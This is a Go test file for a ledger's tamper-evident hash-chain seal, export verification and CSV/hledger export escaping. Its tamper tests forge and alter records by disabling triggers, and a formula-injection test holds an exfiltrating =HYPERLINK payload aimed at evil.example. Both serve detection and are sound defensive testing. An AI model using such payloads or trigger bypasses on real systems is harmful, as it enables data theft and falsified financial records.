package ledger_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
	"github.com/riverqueue/river"
	"github.com/stretchr/testify/require"
	"golang.org/x/sync/errgroup"

	"github.com/tandemledger/tandem/jobs"
	"github.com/tandemledger/tandem/ledger"
)

// sealHistory posts n transfers and a pending entry that is committed, one that is voided
// and a reversal, so the chain covers every kind of entry. It returns the entries in order.
func sealHistory(t *testing.T, b *testBundle, n int) []ledger.Entry {
	t.Helper()
	b.openAccounts(t)
	var out []ledger.Entry
	post := func(e ledger.Entry, err error) ledger.Entry {
		t.Helper()
		require.NoError(t, err)
		out = append(out, e)
		return e
	}
	post(b.ledger.Post(b.ctx, transfer("gift", "org/cash/stripe", "program/p/fund", "1000.00")))
	for i := range n {
		post(b.ledger.Post(b.ctx, transfer(fmt.Sprintf("award-%d", i), "program/p/fund", "participant/x/wallet", "1.00")))
	}
	hold := post(b.ledger.PostPending(b.ctx, transfer("payout-1", "participant/x/wallet", "org/cash/stripe", "2.00")))
	post(b.ledger.Commit(b.ctx, hold.ID, ledger.Resolution{}))
	hold = post(b.ledger.PostPending(b.ctx, transfer("payout-2", "participant/x/wallet", "org/cash/stripe", "1.00")))
	post(b.ledger.Void(b.ctx, hold.ID, ledger.Resolution{}))
	post(b.ledger.Reverse(b.ctx, out[1].ID, ledger.Resolution{}))
	return out
}

// asSuperuser runs SQL behind the triggers' back, as a superuser could: with
// session_replication_role = replica no trigger fires.
func asSuperuser(t *testing.T, b *testBundle, sql string, args ...any) {
	t.Helper()
	conn, err := b.pool.Acquire(b.ctx)
	require.NoError(t, err)
	defer conn.Release()
	_, err = conn.Exec(b.ctx, "SET session_replication_role = replica")
	require.NoError(t, err)
	defer conn.Exec(b.ctx, "RESET session_replication_role") //nolint:errcheck
	tag, err := conn.Exec(b.ctx, sql, args...)
	require.NoError(t, err, sql)
	require.Positive(t, tag.RowsAffected(), sql)
}

func verifyOK(t *testing.T, b *testBundle) ledger.VerifyReport {
	t.Helper()
	rep, err := b.ledger.Verify(b.ctx, ledger.VerifyOptions{Actor: "test"})
	require.NoError(t, err)
	require.True(t, rep.OK(), "%v", rep.Problems)
	require.NoError(t, rep.Err())
	return rep
}

// TestSealAndVerify: the seal covers every entry once, is idempotent, and a verification of
// a sound ledger finds nothing and is recorded for the seal's status.
func TestSealAndVerify(t *testing.T) {
	t.Parallel()
	b := setup(t)
	entries := sealHistory(t, b, 20)

	st, err := b.ledger.SealStatus(b.ctx)
	require.NoError(t, err)
	require.Nil(t, st.Head)
	require.Equal(t, int64(len(entries)), st.Unsealed)
	rep := verifyOK(t, b)
	require.Zero(t, rep.Entries, "nothing sealed yet")

	var progress []int64
	res, err := b.ledger.Seal(b.ctx, ledger.SealOptions{BatchSize: 7, ProgressFunc: func(n int64) { progress = append(progress, n) }})
	require.NoError(t, err)
	require.Equal(t, int64(len(entries)), res.Sealed)
	require.Equal(t, entries[len(entries)-1].Seq, res.HeadSeq)
	require.Len(t, res.HeadHash, 64)
	require.Equal(t, []int64{7, 14, 21, 26}, progress, "batches of 7")

	again, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	require.Zero(t, again.Sealed, "sealing twice seals nothing new")
	require.Equal(t, res.HeadHash, again.HeadHash)

	rep = verifyOK(t, b)
	require.Equal(t, int64(len(entries)), rep.Entries)
	require.Equal(t, int64(4), rep.Checkpoints, "one a batch")
	require.Equal(t, res.HeadHash, rep.HeadHash)
	require.Zero(t, rep.Unsealed)
	require.NotNil(t, rep.Verification)
	require.True(t, rep.Verification.OK)

	_, err = b.ledger.Post(b.ctx, transfer("late", "org/cash/stripe", "program/p/fund", "1.00"))
	require.NoError(t, err)
	st, err = b.ledger.SealStatus(b.ctx)
	require.NoError(t, err)
	require.Equal(t, res.HeadSeq, st.Head.Seq)
	require.Equal(t, res.HeadHash, st.Head.Hash)
	require.Equal(t, int64(len(entries)), st.Head.Entries)
	require.Equal(t, int64(1), st.Unsealed)
	require.Equal(t, rep.Verification.ID, st.LastVerification.ID)
	rep = verifyOK(t, b)
	require.Equal(t, int64(1), rep.Unsealed, "the entry after the head is counted, not checked")

	// The links and checkpoints are append-only, like the entries they cover.
	for _, sql := range []string{`UPDATE ledger_seal SET sealed_at = now()`, `DELETE FROM ledger_seal`,
		`TRUNCATE ledger_seal`, `UPDATE ledger_seal_checkpoints SET entries = 0`, `DELETE FROM ledger_seal_checkpoints`,
		`DELETE FROM ledger_seal_verifications`} {
		_, err := b.pool.Exec(b.ctx, sql)
		var pgErr *pgconn.PgError
		require.ErrorAs(t, err, &pgErr, sql)
		require.Equal(t, "ledger_append_only", pgErr.ConstraintName, sql)
	}
	// The chain only grows at its head, each link naming the one before it.
	for _, sql := range []string{
		`INSERT INTO ledger_seal (seq, entry_id, prev_hash, hash) VALUES ($1 + 1, gen_random_uuid(), sha256('x'), sha256('y'))`,
		`INSERT INTO ledger_seal (seq, entry_id, prev_hash, hash)
			SELECT $1 + 1, gen_random_uuid(), hash, sha256('y') FROM ledger_seal WHERE seq = $1 - 1`,
	} {
		_, err := b.pool.Exec(b.ctx, sql, res.HeadSeq)
		var pgErr *pgconn.PgError
		require.ErrorAs(t, err, &pgErr, sql)
		require.Equal(t, "ledger_seal_chain", pgErr.ConstraintName, sql)
	}
	var low int64
	require.NoError(t, b.pool.QueryRow(b.ctx, `SELECT min(seq) FROM ledger_seal`).Scan(&low))
	asSuperuser(t, b, `DELETE FROM ledger_seal WHERE seq = $1`, low) // make room below the head
	_, err = b.pool.Exec(b.ctx, `INSERT INTO ledger_seal (seq, entry_id, prev_hash, hash)
		VALUES ($1, gen_random_uuid(), '\x0000000000000000000000000000000000000000000000000000000000000000', sha256('y'))`, low)
	var pgErr *pgconn.PgError
	require.ErrorAs(t, err, &pgErr)
	require.Equal(t, "ledger_seal_chain", pgErr.ConstraintName, "not below the head")
}

// TestVerifyNamesTheAlteredEntry alters the ledger behind the triggers' back after sealing,
// as a superuser could, and checks that verify names the entry and says what happened.
func TestVerifyNamesTheAlteredEntry(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		kind string
		// alter changes the ledger; it returns the entry verify must name.
		alter func(t *testing.T, b *testBundle, entries []ledger.Entry) ledger.Entry
		want  string
	}{
		{"posting amount", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `UPDATE ledger_postings SET amount = amount + 1 WHERE entry_id = $1 AND line = 1`, es[5].ID)
			return es[5]
		}, "hash differs — altered after sealing"},
		{"posting amount by a tenth of a cent", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `UPDATE ledger_postings SET amount = amount + 0.001 WHERE entry_id = $1`, es[3].ID)
			return es[3]
		}, "hash differs — altered after sealing"},
		{"description", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `UPDATE ledger_entries SET description = 'nothing to see' WHERE id = $1`, es[7].ID)
			return es[7]
		}, "hash differs — altered after sealing"},
		{"metadata", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `UPDATE ledger_entries SET metadata = '{"program":"other"}' WHERE id = $1`, es[2].ID)
			return es[2]
		}, "hash differs — altered after sealing"},
		{"posting moved to another account", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `UPDATE ledger_postings SET account_id = (SELECT id FROM ledger_accounts WHERE code = 'org/cash/stripe')
				WHERE entry_id = $1 AND line = 2`, es[4].ID)
			return es[4]
		}, "hash differs — altered after sealing"},
		{"posting removed", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `DELETE FROM ledger_postings WHERE entry_id = $1 AND line = 2`, es[6].ID)
			return es[6]
		}, "hash differs — altered after sealing"},
		{"entry deleted", "missing", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `DELETE FROM ledger_postings WHERE entry_id = $1`, es[8].ID)
			asSuperuser(t, b, `DELETE FROM ledger_entries WHERE id = $1`, es[8].ID)
			return es[8]
		}, "was sealed but is missing — deleted after sealing"},
		{"link edited", "altered", func(t *testing.T, b *testBundle, es []ledger.Entry) ledger.Entry {
			asSuperuser(t, b, `UPDATE ledger_seal SET hash = sha256(hash) WHERE seq = $1`, es[9].Seq)
			return es[9]
		}, "hash differs — altered after sealing"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := setup(t)
			entries := sealHistory(t, b, 12)
			_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{BatchSize: 5})
			require.NoError(t, err)
			verifyOK(t, b)

			target := c.alter(t, b, entries)
			rep, err := b.ledger.Verify(b.ctx, ledger.VerifyOptions{Actor: "test"})
			require.NoError(t, err)
			require.False(t, rep.OK())
			first := rep.Problems[0]
			require.Equal(t, target.ID.String(), first.EntryID, "%v", rep.Problems)
			require.Equal(t, target.Seq, first.Seq)
			require.Equal(t, c.kind, first.Kind)
			require.Contains(t, first.Detail, fmt.Sprintf("entry %s (seq %d)", target.ID, target.Seq))
			require.Contains(t, first.Detail, c.want)
			require.ErrorIs(t, rep.Err(), ledger.ErrSealBroken)
			require.Contains(t, rep.Err().Error(), target.ID.String())
			// Recorded for the seal's status, with the first problem.
			st, err := b.ledger.SealStatus(b.ctx)
			require.NoError(t, err)
			require.False(t, st.LastVerification.OK)
			require.Equal(t, first.Detail, st.LastVerification.FirstProblem)
		})
	}
}

// TestVerifyFindsAnEntryInsertedAmongSealedOnes: an entry forged into a number the seal
// skipped (a number taken by a transaction that rolled back) is named.
func TestVerifyFindsAnEntryInsertedAmongSealedOnes(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.openAccounts(t)
	_, err := b.ledger.Post(b.ctx, transfer("gift", "org/cash/stripe", "program/p/fund", "100.00"))
	require.NoError(t, err)
	var gap int64
	require.NoError(t, b.pool.QueryRow(b.ctx, `SELECT nextval('ledger_entry_seq')`).Scan(&gap))
	_, err = b.ledger.Post(b.ctx, transfer("award", "program/p/fund", "participant/x/wallet", "10.00"))
	require.NoError(t, err)
	_, err = b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	verifyOK(t, b)

	forged := uuid.New()
	conn, err := b.pool.Acquire(b.ctx)
	require.NoError(t, err)
	defer conn.Release()
	_, err = conn.Exec(b.ctx, "SET session_replication_role = replica")
	require.NoError(t, err)
	_, err = conn.Exec(b.ctx, `INSERT INTO ledger_entries (id, seq, kind, idempotency_key, effective_at, posted_at, posting_count)
		VALUES ($1, $2, 'standard', 'forged', now(), now(), 2)`, forged, gap)
	require.NoError(t, err)
	_, err = conn.Exec(b.ctx, `INSERT INTO ledger_postings (entry_id, line, account_id, phase, side, amount, currency, seq, posted_at,
			account_version, posted_debits, posted_credits, pending_debits, pending_credits)
		SELECT $1, n, a.id, 'posted', CASE n WHEN 1 THEN 'debit' ELSE 'credit' END, 5, 'USD', $2, now(), 0, 0, 0, 0, 0
		FROM ledger_accounts a, generate_series(1, 2) n WHERE a.code = CASE n WHEN 1 THEN 'program/p/fund' ELSE 'participant/x/wallet' END`,
		forged, gap)
	require.NoError(t, err)

	rep, err := b.ledger.Verify(b.ctx, ledger.VerifyOptions{})
	require.NoError(t, err)
	require.Equal(t, int64(1), rep.ProblemCount, "%v", rep.Problems)
	require.Equal(t, "inserted", rep.Problems[0].Kind)
	require.Equal(t, forged.String(), rep.Problems[0].EntryID)
	require.Contains(t, rep.Problems[0].Detail, "inserted after sealing")
}

// TestVerifyExportNamesTheAlteredRow: an export altered after it left names the entry; a
// removed entry breaks the chain at the next one.
func TestVerifyExportNamesTheAlteredRow(t *testing.T) {
	t.Parallel()
	b := setup(t)
	entries := sealHistory(t, b, 6)
	_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	for _, format := range []ledger.ExportFormat{ledger.FormatCSV, ledger.FormatJSONL} {
		t.Run(string(format), func(t *testing.T) {
			var buf bytes.Buffer
			_, err := b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: format})
			require.NoError(t, err)
			file := buf.String()
			rep, err := ledger.VerifyExport(b.ctx, strings.NewReader(file), ledger.VerifyOptions{})
			require.NoError(t, err)
			require.True(t, rep.OK(), "%v", rep.Problems)

			lines := strings.SplitAfter(file, "\n")
			target := entries[3]
			row := -1
			for i, l := range lines {
				if strings.Contains(l, target.ID.String()) {
					row = i
					break
				}
			}
			require.Positive(t, row)

			// An amount changed in the file.
			altered := slicesReplace(lines, row, strings.Replace(lines[row], "1.00", "100.00", 1))
			rep, err = ledger.VerifyExport(b.ctx, strings.NewReader(altered), ledger.VerifyOptions{})
			require.NoError(t, err)
			require.Equal(t, int64(1), rep.ProblemCount, "%v", rep.Problems)
			require.Equal(t, target.ID.String(), rep.Problems[0].EntryID)
			require.Equal(t, target.Seq, rep.Problems[0].Seq)
			require.Contains(t, rep.Problems[0].Detail, fmt.Sprintf("entry %s (seq %d): hash differs", target.ID, target.Seq))

			// The entry's rows removed: the next entry's previous link no longer follows.
			removed := strings.Join(append(append([]string{}, lines[:row]...), lines[row+2:]...), "")
			rep, err = ledger.VerifyExport(b.ctx, strings.NewReader(removed), ledger.VerifyOptions{})
			require.NoError(t, err)
			require.Equal(t, int64(1), rep.ProblemCount, "%v", rep.Problems)
			require.Equal(t, "chain", rep.Problems[0].Kind)
			require.Equal(t, entries[4].ID.String(), rep.Problems[0].EntryID)
			require.Contains(t, rep.Problems[0].Detail, "an entry before it was removed")
		})
	}
	_, err = ledger.VerifyExport(b.ctx, strings.NewReader("; an hledger journal\n"), ledger.VerifyOptions{})
	require.ErrorIs(t, err, ledger.ErrExportFile)
	require.ErrorContains(t, err, "verify a CSV or JSON Lines export")
	_, err = ledger.VerifyExport(b.ctx, strings.NewReader(""), ledger.VerifyOptions{})
	require.ErrorIs(t, err, ledger.ErrExportFile)
}

func slicesReplace(lines []string, i int, s string) string {
	out := append([]string{}, lines...)
	out[i] = s
	return strings.Join(out, "")
}

// TestTwoSealersMakeOneChain: sealers racing in several goroutines (each batch its own
// transaction) leave one chain: every entry sealed once, every link following the last.
func TestTwoSealersMakeOneChain(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.openAccounts(t)
	batch := make([]ledger.NewEntry, 400)
	for i := range batch {
		batch[i] = transfer(fmt.Sprintf("gift-%d", i), "org/cash/stripe", "program/p/fund", "1.00")
	}
	_, err := b.ledger.PostBatch(b.ctx, batch)
	require.NoError(t, err)

	var g errgroup.Group
	sealed := make([]int64, 3)
	for i := range sealed {
		g.Go(func() error {
			res, err := b.ledger.Seal(b.ctx, ledger.SealOptions{BatchSize: 9 + i})
			sealed[i] = res.Sealed
			return err
		})
	}
	require.NoError(t, g.Wait())
	require.Equal(t, int64(400), sealed[0]+sealed[1]+sealed[2], "each entry sealed by exactly one sealer: %v", sealed)
	var links, distinctPrev int
	require.NoError(t, b.pool.QueryRow(b.ctx, `SELECT count(*), count(DISTINCT prev_hash) FROM ledger_seal`).Scan(&links, &distinctPrev))
	require.Equal(t, 400, links)
	require.Equal(t, 400, distinctPrev)
	rep := verifyOK(t, b)
	require.Equal(t, int64(400), rep.Entries)
}

// TestSealWaitsForEntriesCommittingLate: an entry that takes its number first and commits
// last is sealed in its place; the sealer never skips it.
func TestSealWaitsForEntriesCommittingLate(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.openAccounts(t)
	for _, na := range []ledger.NewAccount{
		{Code: "program/q/fund", Type: ledger.Equity, Currency: "USD"},
		{Code: "org/cash/bank", Type: ledger.Asset, Currency: "USD"},
	} {
		_, _, err := b.ledger.CreateAccount(b.ctx, na)
		require.NoError(t, err)
	}
	tx, err := b.pool.Begin(b.ctx)
	require.NoError(t, err)
	defer tx.Rollback(context.Background()) //nolint:errcheck
	slow, err := b.ledger.PostTx(b.ctx, tx, transfer("slow", "org/cash/stripe", "program/p/fund", "10.00"))
	require.NoError(t, err)
	fast, err := b.ledger.Post(b.ctx, transfer("fast", "org/cash/bank", "program/q/fund", "5.00"))
	require.NoError(t, err)
	require.Less(t, slow.Seq, fast.Seq)

	// While the slow entry's transaction is open, a sealer with a deadline gives up and
	// seals nothing: it never seals the fast entry past a gap that may still fill.
	ctx, cancel := context.WithTimeout(b.ctx, 150*time.Millisecond)
	defer cancel()
	_, err = b.ledger.Seal(ctx, ledger.SealOptions{})
	require.ErrorIs(t, err, context.DeadlineExceeded)
	var links int
	require.NoError(t, b.pool.QueryRow(b.ctx, `SELECT count(*) FROM ledger_seal`).Scan(&links))
	require.Zero(t, links)

	committed := make(chan error, 1)
	go func() {
		time.Sleep(200 * time.Millisecond)
		committed <- tx.Commit(context.Background())
	}()
	defer func() { <-committed }()
	res, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	require.Equal(t, int64(2), res.Sealed)
	require.Equal(t, fast.Seq, res.HeadSeq)
	var seqs []int64
	rows, err := b.pool.Query(b.ctx, `SELECT seq FROM ledger_seal ORDER BY seq`)
	require.NoError(t, err)
	seqs, err = pgx.CollectRows(rows, pgx.RowTo[int64])
	require.NoError(t, err)
	require.Equal(t, []int64{slow.Seq, fast.Seq}, seqs)
	verifyOK(t, b)
}

// TestSealJobThroughRiver: the periodic seal_ledger job, registered by jobs.NewClient, seals
// as soon as the client leads, and the ledger verifies.
func TestSealJobThroughRiver(t *testing.T) {
	t.Parallel()
	b := setup(t)
	entries := sealHistory(t, b, 3)
	client, err := jobs.NewClient(jobs.Config{Pool: b.pool, Ledger: b.ledger, SealInterval: time.Hour})
	require.NoError(t, err)
	events, cancel := client.Subscribe(river.EventKindJobCompleted, river.EventKindJobFailed)
	defer cancel()
	require.NoError(t, client.Start(b.ctx))
	t.Cleanup(func() { _ = client.Stop(context.Background()) })
	for {
		select {
		case ev := <-events:
			if ev.Job.Kind != (jobs.SealLedgerArgs{}).Kind() {
				continue
			}
			require.Equal(t, river.EventKindJobCompleted, ev.Kind, "%v", ev.Job.Errors)
			st, err := b.ledger.SealStatus(b.ctx)
			require.NoError(t, err)
			require.NotNil(t, st.Head)
			require.Equal(t, int64(len(entries)), st.Head.Entries)
			verifyOK(t, b)
			return
		case <-time.After(20 * time.Second):
			t.Fatal("no seal_ledger event")
		}
	}
}

// The report is JSON an API can return as is.
func TestVerifyReportJSON(t *testing.T) {
	t.Parallel()
	b := setup(t)
	sealHistory(t, b, 3)
	_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	rep := verifyOK(t, b)
	raw, err := json.Marshal(rep)
	require.NoError(t, err)
	var m map[string]any
	require.NoError(t, json.Unmarshal(raw, &m))
	require.Equal(t, "database", m["source"])
	require.Equal(t, []any{}, m["problems"])
	require.False(t, errors.Is(rep.Err(), ledger.ErrSealBroken))
}

// sealedCSV seals sealHistory's ledger and exports everything as CSV, returning the lines
// (each with its line break) and the entries; the file verifies as it is.
func sealedCSV(t *testing.T, b *testBundle) ([]string, []ledger.Entry) {
	t.Helper()
	entries := sealHistory(t, b, 6)
	_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	var buf bytes.Buffer
	sum, err := b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatCSV})
	require.NoError(t, err)
	require.Equal(t, entries[len(entries)-1].Seq, sum.SealedThrough)
	rep := verifyLines(t, b, strings.SplitAfter(buf.String(), "\n"), false)
	require.True(t, rep.OK(), "%v", rep.Problems)
	require.Equal(t, sum.SealedThrough, rep.SealedThrough)
	return strings.SplitAfter(buf.String(), "\n"), entries
}

func verifyLines(t *testing.T, b *testBundle, lines []string, partial bool) ledger.VerifyReport {
	t.Helper()
	rep, err := ledger.VerifyExport(b.ctx, strings.NewReader(strings.Join(lines, "")), ledger.VerifyOptions{Partial: partial})
	require.NoError(t, err)
	return rep
}

func problemKinds(rep ledger.VerifyReport) []string {
	var out []string
	for _, p := range rep.Problems {
		out = append(out, p.Kind)
	}
	return out
}

// TestVerifyExportWholeUnlessPartial: export_scope is not sealed. A whole export with an
// entry removed and its scope relabelled "filtered" is not verifiable as a whole export
// (what verify expects unless told --partial), with a hint; told it is partial, verify
// counts the gap and says so.
func TestVerifyExportWholeUnlessPartial(t *testing.T) {
	t.Parallel()
	b := setup(t)
	lines, entries := sealedCSV(t, b)
	victim := entries[3].ID.String()
	var out []string
	for _, l := range lines {
		if strings.Contains(l, victim) {
			continue // the award's two rows removed from the file
		}
		out = append(out, strings.Replace(l, ",all,", ",program=p,", 1))
	}
	rep := verifyLines(t, b, out, false)
	require.False(t, rep.OK())
	require.Equal(t, "scope", rep.Problems[0].Kind, "%v", rep.Problems)
	require.Contains(t, rep.Problems[0].Detail, "not verifiable as a whole export")
	require.Contains(t, rep.Problems[0].Detail, "--partial")
	require.Contains(t, problemKinds(rep), "chain", "checked as a whole export, the removed entry is found too")
	require.False(t, rep.Partial)

	rep = verifyLines(t, b, out, true)
	require.True(t, rep.OK(), "%v", rep.Problems)
	require.True(t, rep.Partial)
	require.Equal(t, int64(1), rep.Gaps, "the gap is counted and said")

	// Rows that disagree on the file-wide columns are malformed.
	mixed := append([]string{}, lines...)
	mixed[2] = strings.Replace(mixed[2], ",all,", ",program=p,", 1)
	rep = verifyLines(t, b, mixed, true)
	require.Contains(t, problemKinds(rep), "malformed", "%v", rep.Problems)
}

// TestVerifyExportStrippedLinks: blanking an entry's entry_hash and prev_hash does not make
// it "not sealed yet" when the file says it was sealed (sealed_through): an altered amount
// hidden that way is found, and so is a lowered sealed_through below the file's links.
func TestVerifyExportStrippedLinks(t *testing.T) {
	t.Parallel()
	b := setup(t)
	lines, entries := sealedCSV(t, b)
	last := entries[len(entries)-1] // the reversal of the first award
	for i, l := range lines {
		if !strings.Contains(l, last.ID.String()) {
			continue
		}
		f := strings.Split(strings.TrimSuffix(l, "\r\n"), ",")
		require.Len(t, f, 20, l)
		require.Equal(t, fmt.Sprint(last.Seq), f[19], "sealed_through")
		f[14] = strings.Replace(f[14], "1.00", "900.00", 1) // amount
		f[16], f[17] = "", ""                               // entry_hash, prev_hash
		lines[i] = strings.Join(f, ",") + "\r\n"
	}
	rep := verifyLines(t, b, lines, false)
	require.False(t, rep.OK())
	require.Contains(t, problemKinds(rep), "unlinked", "%v", rep.Problems)
	require.ErrorContains(t, rep.Err(), fmt.Sprintf("entry %s (seq %d) has no link although the export says entries through seq %d were sealed",
		last.ID, last.Seq, last.Seq))

	// sealed_through lowered below the links the file holds: edited.
	lowered := append([]string{}, lines[:1]...)
	for _, l := range lines[1:] {
		if l != "" {
			l = strings.TrimSuffix(l, fmt.Sprintf(",%d\r\n", last.Seq)) + ",1\r\n"
		}
		lowered = append(lowered, l)
	}
	rep = verifyLines(t, b, lowered, true)
	require.False(t, rep.OK())
	require.ErrorContains(t, rep.Err(), "sealed_through says entries were sealed only through seq 1")
}

// TestVerifyExportAccountTypeSealed: an account's type is part of the canonical encoding:
// relabelling an asset an expense in the file names the entries.
func TestVerifyExportAccountTypeSealed(t *testing.T) {
	t.Parallel()
	b := setup(t)
	lines, _ := sealedCSV(t, b)
	changed := 0
	for i, l := range lines {
		if strings.Contains(l, ",org/cash/stripe,asset,") {
			lines[i] = strings.Replace(l, ",org/cash/stripe,asset,", ",org/cash/stripe,expense,", 1)
			changed++
		}
	}
	require.Positive(t, changed)
	rep := verifyLines(t, b, lines, false)
	require.False(t, rep.OK())
	require.Equal(t, "altered", rep.Problems[0].Kind, "%v", rep.Problems)
}

// TestExportCSVFormulaInjection: a free-text cell a spreadsheet would read as a formula is
// written with a leading ' (and a text starting with ' keeps its own); verify takes exactly
// that ' away, so the file still verifies byte for byte.
func TestExportCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.openAccounts(t)
	descs := []string{"=1+2", "'quoted", "-5", "@x", "+1", "\tx", `=HYPERLINK("https://evil.example/?"&A1,"click")`}
	for i, d := range descs {
		e := transfer(fmt.Sprintf("=key-%d", i), "org/cash/stripe", "program/p/fund", "1.00")
		e.Description = d
		_, err := b.ledger.Post(b.ctx, e)
		require.NoError(t, err)
	}
	_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
	require.NoError(t, err)
	var buf bytes.Buffer
	_, err = b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatCSV})
	require.NoError(t, err)
	file := buf.String()
	for _, cell := range []string{`,'=1+2,`, `,''quoted,`, `,'-5,`, `,'@x,`, `,'+1,`, ",'\tx,", `,"'=HYPERLINK(`, `,'=key-0,`} {
		require.Contains(t, file, cell)
	}
	for _, cell := range []string{`,=1+2,`, `,-5,`, `,@x,`, `,"=HYPERLINK(`, `,=key-0,`} {
		require.NotContains(t, file, cell, "a cell that starts a spreadsheet formula")
	}
	rep := verifyLines(t, b, strings.SplitAfter(file, "\n"), false)
	require.True(t, rep.OK(), "%v", rep.Problems)
	require.Equal(t, int64(len(descs)), rep.Entries)
	// JSON Lines is not a spreadsheet's: its text is as stored.
	buf.Reset()
	_, err = b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatJSONL})
	require.NoError(t, err)
	require.Contains(t, buf.String(), `"description":"=1+2"`)
}

// TestExportHledgerDescriptionWithSemicolon: on hledger's transaction line ';' starts a
// comment, whose "name:value" words are tags: the description's ';' is written as ',', and
// the full description is kept in a comment that plants no tags.
func TestExportHledgerDescriptionWithSemicolon(t *testing.T) {
	t.Parallel()
	hledger, err := exec.LookPath("hledger")
	if err != nil {
		t.Skip("hledger is not installed")
	}
	b := setup(t)
	b.openAccounts(t)
	e := transfer("semi", "org/cash/stripe", "program/p/fund", "1.00")
	e.Description = "refund to Ana; seal:0000, kind:void | note"
	_, err = b.ledger.Post(b.ctx, e)
	require.NoError(t, err)
	_, err = b.ledger.Post(b.ctx, transfer("plain", "org/cash/stripe", "program/p/fund", "1.00"))
	require.NoError(t, err)
	var buf bytes.Buffer
	_, err = b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatHledger})
	require.NoError(t, err)
	journal := buf.String()
	require.Contains(t, journal, `; description: "refund to Ana; seal:0000\u002c kind:void | note"`)
	require.Equal(t, 1, strings.Count(journal, "; description:"), "only where the line differs:\n%s", journal)
	file := filepath.Join(t.TempDir(), "l.journal")
	require.NoError(t, os.WriteFile(file, buf.Bytes(), 0o600))
	hl := func(args ...string) string {
		out, err := exec.Command(hledger, append([]string{"-f", file}, args...)...).CombinedOutput()
		require.NoError(t, err, "%s\n%s", out, journal)
		return string(out)
	}
	require.Contains(t, hl("register", "-O", "csv", "--width", "300"), "refund to Ana, seal:0000, kind:void | note")
	require.Empty(t, strings.TrimSpace(hl("register", "tag:seal")), "no seal tag planted (nothing is sealed)")
	require.Empty(t, strings.TrimSpace(hl("register", "tag:kind=void")), "no kind tag planted")
	require.NotEmpty(t, strings.TrimSpace(hl("register", "tag:description")))
}
